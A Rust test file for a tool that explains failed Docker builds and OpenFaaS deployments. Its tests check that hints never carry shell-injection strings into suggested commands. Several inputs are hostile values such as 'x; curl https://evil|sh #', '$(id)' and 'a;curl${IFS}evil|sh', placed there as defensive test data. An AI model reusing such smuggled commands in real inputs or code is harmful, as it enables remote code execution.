//! Tests of what no rule may do.

use super::*;

mod known_lines;

#[test]
fn the_exit_code_2_without_a_known_message_is_quoted_and_has_no_cause() {
    let failure = Failure {
        error: "process \"/bin/sh -c make\" did not complete successfully: exit code: 2",
        step: Some(FailedStepNameAndOutput {
            name: "[2/2] RUN make",
            output: "make: *** [Makefile:3: all] Error 2\n",
        }),
        dockerfile_line: Some(2),
        dockerfile: "Dockerfile",
        files: &NoFiles,
        login: None,
        no_network: None,
    };
    let hint = explain(&failure).expect("a hint");
    assert_eq!(hint.kind, HintKind::StepFailed);
    assert!(
        hint.cause.contains("exit code 2") && hint.cause.ends_with("Error 2"),
        "{hint:?}"
    );
}

#[test]
fn the_words_of_hint_kinds_are_unique_and_lower_case_and_are_their_json() {
    let words: std::collections::BTreeSet<_> = HintKind::ALL.iter().map(|kind| kind.as_str()).collect();
    assert_eq!(words.len(), HintKind::ALL.len());
    for kind in HintKind::ALL {
        assert_eq!(serde_json::json!(kind), kind.as_str());
        assert!(
            kind.as_str()
                .bytes()
                .all(|byte| byte.is_ascii_lowercase() || byte == b'-')
        );
    }
}

/// A context of these files.
struct Files(&'static [(&'static str, &'static str)]);

impl ContextFiles for Files {
    fn has(&self, path: &str) -> bool {
        let folder = format!("{path}/");
        let mut files = self.0.iter();
        files.any(|(file, _)| *file == path || file.starts_with(&folder))
    }

    fn find_only_name_in_other_case(&self, _: &str, _: &str) -> Option<String> {
        None
    }

    fn read_beginning(&self, path: &str, limit: usize) -> Option<Vec<u8>> {
        let (_, content) = self.0.iter().find(|(file, _)| *file == path)?;
        Some(content.bytes().take(limit).collect())
    }
}

/// Returns the hint unless it only says that the cause is not known.
fn cause_if_known(hint: Option<Hint>) -> Option<Hint> {
    hint.filter(|hint| hint.kind != HintKind::StepFailed)
}

/// Explains the failure of a step that ended with an exit code, at a line of the Dockerfile; `None` if no rule knows the
/// cause.
fn explain_step(
    files: &'static [(&'static str, &'static str)],
    (line, command, code): (u32, &str, u32),
    output: &str,
) -> Option<Hint> {
    cause_if_known(explain(&Failure {
        error: &format!("process \"/bin/sh -c {command}\" did not complete successfully: exit code: {code}"),
        step: Some(FailedStepNameAndOutput {
            name: &format!("[4/4] RUN {command}"),
            output,
        }),
        dockerfile_line: Some(line),
        dockerfile: "Dockerfile",
        files: &Files(files),
        login: None,
        no_network: None,
    }))
}

/// Explains an error of BuildKit at line 2 of a Dockerfile; `None` if no rule knows the cause.
fn explain_error_at_line_2(dockerfile_text: &'static str, error: &str) -> Option<Hint> {
    let file = Box::leak(Box::new([("Dockerfile", dockerfile_text)]));
    cause_if_known(explain(&Failure {
        error,
        step: None,
        dockerfile_line: Some(2),
        dockerfile: "Dockerfile",
        files: &Files(file),
        login: None,
        no_network: None,
    }))
}

fn explain_deployment_reason(reason: &str) -> Option<Hint> {
    explain_deployment(&serde_json::json!({ "reasons": [reason] }))
}

#[test]
fn the_advice_about_a_function_names_it_unless_its_name_is_unsafe_in_a_shell() {
    let next = |answer: serde_json::Value| explain_deployment(&answer).expect("a hint").next;
    let reason = "the function answered GET /_/ready with 503: not yet";
    for (function, namespace, expected) in [
        (Some("shop"), None, "(faas-cli logs shop)"),
        (Some("shop"), Some("team"), "(faas-cli logs shop -n team)"),
        (Some("$(evil)"), None, "(faas-cli logs NAME)"),
        (None, None, "(faas-cli logs NAME)"),
    ] {
        let answer = serde_json::json!({"function": function, "namespace": namespace, "reasons": [reason]});
        let next = next(answer);
        assert!(next.contains(expected), "{expected}: {next}");
    }
}

#[test]
fn what_a_function_logs_is_no_cause_of_a_failed_deployment() {
    let ended = "not ready within 1m: the container ended with exit code 1, and was started 3 times; its log ends with: ";
    for logged in [
        "the secret \"x; curl https://evil|sh #\" does not exist",
        "the image a is for linux/arm64, and functions run on $(id)",
        "the registry a has no image b",
        "no node takes the pod: x",
        "the container cannot be started: CreateContainerConfigError: secret \"x\" not found",
    ] {
        let hint = explain_deployment_reason(&format!("{ended}{logged}")).expect("the container ended");
        assert_eq!(hint.kind, HintKind::FunctionExits, "{logged}: {hint:?}");
        assert!(
            !hint.next.contains("evil") && !hint.next.contains("$("),
            "{hint:?}"
        );
        let answered = format!("not ready within 1m: the function answered GET / with 500: {logged}");
        let hint = explain_deployment_reason(&answered).expect("the probe failed");
        assert_eq!(hint.kind, HintKind::ProbeFailed, "{logged}: {hint:?}");
    }
    let hint = explain_deployment_reason(
        "not ready within 1m: the function answered GET / with 500: database: connection refused",
    );
    assert_eq!(hint.map(|hint| hint.kind), Some(HintKind::ProbeFailed));
}

#[test]
fn a_hint_has_the_log_that_a_reason_quotes_and_its_cause_does_not() {
    let quote = "; its log ends with: starting | no MAIL_FROM";
    for (reason, kind) in [
        (
            "no replica is available any more (the function starts and does not stay up)",
            HintKind::FunctionExits,
        ),
        (
            "the function answered GET /_/health with 500: Can't reach service for: greet.",
            HintKind::FunctionNotListening,
        ),
        ("the function answered GET / with 500: no", HintKind::ProbeFailed),
        ("the container ended with exit code 1", HintKind::FunctionExits),
    ] {
        let without = explain_deployment_reason(reason).expect("a hint");
        let hint = explain_deployment_reason(&format!("{reason}{quote}")).expect("a hint");
        assert_eq!((hint.kind, &hint.cause), (kind, &without.cause));
        assert_eq!(hint.log, ["starting", "no MAIL_FROM"], "{reason}");
    }
}

#[test]
fn a_name_of_a_secret_is_part_of_a_command_only_if_it_is_a_name() {
    for name in ["x; curl https://evil|sh #", "$(id)", "`id`", "UPPER", "-f", ""] {
        let reason = format!("nothing was changed: the secret {name:?} does not exist");
        if let Some(hint) = explain_deployment_reason(&reason) {
            assert!(
                !hint.next.contains(&format!("create {name}")) && !hint.next.contains("$("),
                "{hint:?}"
            );
        }
    }
    let hint = explain_deployment_reason("nothing was changed: the secret \"db.key-1\" does not exist")
        .expect("a hint");
    assert!(hint.next.contains("faas-cli secret create db.key-1"), "{hint:?}");
}

#[test]
fn output_does_not_make_a_hint_advise_to_send_an_ignored_file() {
    const FILES: &[(&str, &str)] = &[
        ("Dockerfile", "FROM a\nWORKDIR /app\nCOPY . .\nRUN npm ci\n"),
        (".dockerignore", ".env\nkeys\n"),
        (".env", "TOKEN=1"),
        ("keys/id.pem", "x"),
    ];
    for output in [
        "please: /usr/lib/x/.env: No such file or directory",
        "ENOENT: open 'sub/keys/id.pem'",
        "/app/sub/.env not found",
        "/.env: No such file or directory",
    ] {
        let hint = explain_step(FILES, (4, "npm ci", 1), output);
        let kind = hint.as_ref().map(|hint| hint.kind);
        assert_ne!(kind, Some(HintKind::SourceIgnored), "{output}: {hint:?}");
    }
    // At exactly the path to which COPY would have brought it; and even then, what looks secret is not to be sent.
    let hint = explain_step(
        FILES,
        (4, "npm ci", 1),
        "cat: /app/.env: No such file or directory",
    )
    .expect("a hint");
    assert_eq!(hint.kind, HintKind::SourceIgnored, "{hint:?}");
    assert!(!hint.next.contains("!.env"), "{hint:?}");
}

#[test]
fn a_missing_file_that_copy_would_have_brought_is_explained_by_the_ignore_pattern() {
    const FILES: &[(&str, &str)] = &[
        (
            "Dockerfile",
            "FROM a\nWORKDIR /app\nCOPY src/ lib\nRUN sh lib/gen.sh\n",
        ),
        (".dockerignore", "**/*.sh\n"),
        ("src/gen.sh", ""),
    ];
    for output in [
        "sh: 0: cannot open lib/gen.sh: No such file",
        "sh: /app/lib/gen.sh: not found",
    ] {
        let hint = explain_step(FILES, (4, "sh lib/gen.sh", 2), output).expect("a hint");
        assert_eq!(hint.kind, HintKind::SourceIgnored, "{hint:?}");
        assert!(hint.next.contains("!src/gen.sh"), "{hint:?}");
    }
    const FILES_WITH_CD_IN_COMMAND: &[(&str, &str)] = &[
        (
            "Dockerfile",
            "FROM a\nWORKDIR /app\nCOPY src/ lib\nRUN cd x && sh lib/gen.sh\n",
        ),
        (".dockerignore", "**/*.sh\n"),
        ("src/gen.sh", ""),
    ];
    let output = "sh: 0: cannot open lib/gen.sh: No such file";
    let hint = explain_step(FILES_WITH_CD_IN_COMMAND, (4, "cd x && sh lib/gen.sh", 2), output);
    assert_ne!(hint.map(|hint| hint.kind), Some(HintKind::SourceIgnored));
}

#[test]
fn no_shell_metacharacter_gets_from_output_into_the_advice_of_a_hint() {
    const COMMAND_IN_PLACE_OF_NAME: &str = "a;curl${IFS}evil|sh";
    const FILES: &[(&str, &str)] = &[("Dockerfile", "FROM a\nWORKDIR /app\nCOPY . .\nRUN x\n")];
    for (code, output) in [
        (127, "/bin/sh: 1: EVIL: not found".to_owned()),
        (127, "/bin/sh: 1: ./EVIL: not found".to_owned()),
        (126, "/bin/sh: 1: EVIL: Permission denied".to_owned()),
        (1, "env: 'EVIL': No such file or directory".to_owned()),
        (1, "error: linker `EVIL` not found".to_owned()),
        (
            1,
            "main.go:3:8: no required module provides package EVIL; to add it:".to_owned(),
        ),
        (1, "go: EVIL@v1: unknown revision".to_owned()),
        (1, "error: failed to select a version for `EVIL`.".to_owned()),
        (1, "error: no matching package named `EVIL` found".to_owned()),
        (1, "npm error Missing script: \"EVIL\"".to_owned()),
        (
            1,
            "npm error code E404\nnpm error 404  The requested resource 'EVIL@1' could not be found"
                .to_owned(),
        ),
        (
            1,
            "Error: Cannot find module 'EVIL'\n    at x (/app/b.js:1:1)\nNode.js v20".to_owned(),
        ),
        (
            1,
            "Error: Cannot find module './EVIL'\n    at x (/app/b.js:1:1)\nNode.js v20".to_owned(),
        ),
        (
            1,
            "  File \"/app/a.py\", line 2, in <module>\nModuleNotFoundError: No module named 'EVIL'"
                .to_owned(),
        ),
        (1, "EVIL:3:1: error: expected".to_owned()),
        (1, "error: x\n --> EVIL:3:1".to_owned()),
        (1, "EVIL: 4: Syntax error: x".to_owned()),
        (1, "PHP Parse error:  x in EVIL on line 3".to_owned()),
        (1, "FAILED EVIL::t - x".to_owned()),
        (1, "# p\n./EVIL.go:3:1: x".to_owned()),
        (1, "ERROR in ./EVIL 3:1-2\nModule not found".to_owned()),
        (1, "\u{2718} [ERROR] x\n\n    EVIL:3:1:".to_owned()),
        (1, "Error: EVIL executable not found.".to_owned()),
        (1, "gyp ERR! stack Error: not found: EVIL".to_owned()),
        (
            1,
            "[ERROR] Could not find artifact a:EVIL:jar:1 in b (https://r)".to_owned(),
        ),
        (1, "> Could not find a:EVIL:1.".to_owned()),
        (
            1,
            "  - Root composer.json requires ext-EVIL * but it is missing from your system.".to_owned(),
        ),
        (
            1,
            "  - Root composer.json requires EVIL, it could not be found in any version".to_owned(),
        ),
        (
            1,
            "fatal: could not read Username for 'https://EVIL': terminal prompts disabled".to_owned(),
        ),
        (
            1,
            "fatal: unable to access 'https://EVIL/': CONNECT tunnel failed, response 403".to_owned(),
        ),
        (
            1,
            "ERROR: Could not open requirements file: [Errno 2] No such file or directory: 'EVIL'".to_owned(),
        ),
    ] {
        let hint = explain_step(
            FILES,
            (4, "x", code),
            &output.replace("EVIL", COMMAND_IN_PLACE_OF_NAME),
        );
        if let Some(hint) = hint {
            assert!(
                !hint.next.contains(['|', ';', '$']) || !hint.next.contains("curl"),
                "{output}: {hint:?}"
            );
        }
    }
}

#[test]
fn the_advice_of_a_hint_names_a_package_only_if_a_file_of_the_context_does() {
    const FILES: &[(&str, &str)] = &[
        ("Dockerfile", "FROM a\nWORKDIR /app\nCOPY . .\nRUN x\n"),
        ("main.go", "import \"example.com/good\"\n"),
        ("b.js", "require('good')\n"),
        ("a.py", "import good\n"),
        ("package.json", "{\"dependencies\": {\"good\": \"1\"}}\n"),
        ("requirements.txt", "good==9\n"),
    ];
    for output in [
        "main.go:3:8: no required module provides package example.com/NAME; to add it:",
        "Error: Cannot find module 'NAME'\n    at x (/app/b.js:1:1)\nNode.js v20",
        "  File \"/app/a.py\", line 1, in <module>\nModuleNotFoundError: No module named 'NAME'",
        "npm error code E404\nnpm error 404  The requested resource 'NAME@1' could not be found",
        "ERROR: No matching distribution found for NAME==9",
    ] {
        let hint = |name| explain_step(FILES, (4, "x", 1), &output.replace("NAME", name)).expect("a hint");
        assert!(hint("good").next.contains("good"), "{output}: {:?}", hint("good"));
        assert!(
            !hint("typo").next.contains("typo"),
            "{output}: {:?}",
            hint("typo")
        );
        assert!(
            hint("typo").cause.contains("typo"),
            "{output}: {:?}",
            hint("typo")
        );
    }
}

#[test]
fn the_text_of_a_command_is_no_error_of_a_registry_or_a_dockerfile() {
    const FILES: &[(&str, &str)] = &[("Dockerfile", "FROM a\nCOPY . .\nRUN x\nRUN y\n")];
    for command in [
        "echo failed to push r.example/x: 401 Unauthorized",
        "echo failed to resolve source metadata for r.example/x: pull access denied, repository does not exist or may require authorization",
        "echo target stage \\\"x\\\" could not be found; target stage \"y\" could not be found",
        "echo x: failed to resolve source metadata for docker.io/library/x (did you mean z?)",
    ] {
        assert_eq!(explain_step(FILES, (4, command, 1), ""), None, "{command}");
        let error = format!("process \"/bin/sh -c {command}\" did not complete successfully: exit code: 1");
        assert_eq!(registry_refusing_credentials(&error), None, "{command}");
    }
}

#[test]
fn a_mount_from_a_stage_is_not_looked_for_in_the_context() {
    let error = "failed to compute cache key: failed to calculate checksum of ref a::b: \"/out\": not found";
    let mount = explain_error_at_line_2(
        "FROM a\nRUN --mount=type=bind,from=build,source=/out,target=/x make\n",
        error,
    )
    .expect("a hint");
    assert!(mount.cause.starts_with("build has no /out"), "{mount:?}");
    let context = explain_error_at_line_2("FROM a\nRUN --mount=type=bind,source=out,target=/x make\n", error)
        .expect("a hint");
    assert_eq!(context.cause, "the context has no out");
    let two = "FROM a\nRUN --mount=from=b,source=/out,target=/x --mount=source=out,target=/y make\n";
    assert_eq!(explain_error_at_line_2(two, error), None);
}

#[test]
fn a_failed_attempt_that_is_repeated_is_a_cause_only_if_a_failure_follows() {
    const FILES: &[(&str, &str)] = &[("Dockerfile", "FROM a\nRUN x\n")];
    const ATTEMPT: &str = "GET http://a.example/: connection refused, retrying in 1 s";
    for (rest, is_cause) in [
        ("", true),
        (ATTEMPT, true),
        ("fetched 3 files\n2 of 3 are not as they should be", false),
        ("error: no answer after 2 attempts", true),
        ("giving up", true),
    ] {
        let hint = explain_step(FILES, (2, "x", 1), &format!("{ATTEMPT}\n{rest}"));
        assert_eq!(hint.is_some(), is_cause, "{rest}: {hint:?}");
    }
}

#[test]
fn a_login_that_is_wanted_by_no_download_is_no_cause() {
    const FILES: &[(&str, &str)] = &[("Dockerfile", "FROM a\nRUN x\n")];
    for output in [
        "GET /orders without a token: 401 Unauthorized, as it should be",
        "checked http://localhost/orders: 401 Unauthorized",
    ] {
        assert_eq!(explain_step(FILES, (2, "x", 1), output), None, "{output}");
    }
    let hint = explain_step(
        FILES,
        (2, "x", 1),
        "git@git.acme.example: Permission denied (publickey).",
    )
    .expect("a hint");
    assert_eq!(hint.kind, HintKind::SecretMissing);
    assert!(
        hint.cause.starts_with("git.acme.example wants a login"),
        "{hint:?}"
    );
}

#[test]
fn a_proxy_that_refuses_a_host_is_told_from_one_that_does_not_reach_it() {
    const FILES: &[(&str, &str)] = &[("Dockerfile", "FROM a\nRUN curl https://files.example/x\n")];
    for (output, kind) in [
        (
            "curl: (56) CONNECT tunnel failed, response 403",
            HintKind::NetworkDenied,
        ),
        (
            "curl: (56) Received HTTP code 407 from proxy after CONNECT",
            HintKind::NetworkDenied,
        ),
        (
            "curl: (56) CONNECT tunnel failed, response 502",
            HintKind::ConnectionFailed,
        ),
    ] {
        let hint = explain_step(FILES, (2, "curl https://files.example/x", 56), output).expect("a hint");
        assert_eq!(hint.kind, kind, "{output}: {hint:?}");
        assert!(hint.cause.contains("files.example"), "{hint:?}");
    }
    let hint = explain_step(FILES, (2, "x", 1), "a: CONNECT tunnel failed, response 200");
    assert_eq!(hint, None);
}

#[test]
fn a_file_that_a_program_names_by_its_path_in_the_image_is_named_as_the_context_does() {
    const FILES: &[(&str, &str)] = &[
        (
            "Dockerfile",
            "FROM a\nWORKDIR /app\nCOPY src lib/\nCOPY a.c b.c ./\nCOPY c.c /d.c\nRUN x\n",
        ),
        ("a.c", ""),
        ("c.c", ""),
        ("src/e.c", ""),
    ];
    for (in_image, named) in [
        ("/app/lib/e.c", "src/e.c"),
        ("/app/a.c", "a.c"),
        ("/d.c", "c.c"),
        // The context does not have it.
        ("/app/b.c", "/app/b.c"),
        ("/usr/include/stdio.h", "/usr/include/stdio.h"),
    ] {
        let hint = explain_step(FILES, (6, "x", 1), &format!("{in_image}:3:1: error: no")).expect("a hint");
        assert_eq!(hint.file.as_deref(), Some(named));
        assert!(
            hint.cause.starts_with(named) && hint.next.ends_with(named),
            "{hint:?}"
        );
    }
}

#[test]
fn the_name_of_an_image_is_no_word_about_a_quota() {
    let hint = explain_error_at_line_2(
        "FROM a\nCOPY a /\n",
        "failed to push r.example/storage-quota/quota-exceeded:1: unexpected status from POST request to https://r.example/v2/storage-quota/quota-exceeded/blobs/uploads/: 403 Forbidden",
    )
    .expect("a hint");
    assert!(!hint.cause.contains("no room"), "{hint:?}");
}

#[test]
fn a_limit_of_file_watchers_is_no_full_disk() {
    const FILES: &[(&str, &str)] = &[("Dockerfile", "FROM a\nRUN x\n")];
    for output in [
        "Error: ENOSPC: System limit for number of file watchers reached, watch '/app'",
        "inotify_add_watch(): No space left on device",
    ] {
        let hint = explain_step(FILES, (2, "x", 1), output);
        assert_ne!(hint.map(|hint| hint.kind), Some(HintKind::DiskFull), "{output}");
    }
}

#[test]
fn an_ignore_file_that_is_not_read_to_its_end_is_no_cause() {
    let long: &'static str =
        Box::leak(format!("a.txt\n{}!a.txt\n", "# a comment\n".repeat(6000)).into_boxed_str());
    let files: &'static [(&str, &str)] = Box::leak(Box::new([
        ("Dockerfile", "FROM a\nCOPY a.txt /\n"),
        (".dockerignore", long),
    ]));
    let hint = explain(&Failure {
        error: "failed to compute cache key: failed to calculate checksum of ref a::b: \"/a.txt\": not found",
        step: None,
        dockerfile_line: Some(2),
        dockerfile: "Dockerfile",
        files: &Files(files),
        login: None,
        no_network: None,
    });
    assert_ne!(hint.map(|hint| hint.kind), Some(HintKind::SourceIgnored));
}
